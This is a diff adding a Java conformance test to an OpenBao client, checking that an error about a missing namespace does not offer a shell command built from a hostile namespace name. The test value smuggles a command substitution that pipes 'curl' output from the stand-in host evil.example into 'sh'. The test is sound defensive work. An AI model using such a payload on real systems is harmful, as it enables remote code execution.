@@ -136,6 +136,23 @@ class HealthConformanceIT {
   }
 
   @Test
+  @StandInOnly("sends a namespace name a real server might refuse before looking it up")
+  void aMissingNamespaceAShellWouldActOnIsNotOfferedInACommand(BaoTarget bao) {
+    String hostile = "x$(curl${IFS}evil.example|sh)";
+    OpenBaoClient client =
+        OpenBaoClient.connect(
+            OpenBaoConnection.builder(bao.connection().address().toString())
+                .caBundlePem(bao.standIn().caCertificatePem().orElseThrow())
+                .namespace(hostile)
+                .build());
+
+    assertThatThrownBy(() -> client.withToken(bao.standIn().rootToken()).lookupSelf())
+        .hasMessageContaining("has no namespace " + hostile + " (")
+        .hasMessageContaining("creates one with 'bao namespace create', after checking")
+        .satisfies(failure -> assertThat(failure.getMessage()).doesNotContain("create " + hostile));
+  }
+
+  @Test
   @StandInOnly("injects latency and dropped connections")
   void slowAndDroppedAnswersAreUnreachableNotSuccesses(BaoTarget bao) {
     OpenBaoClient impatient =
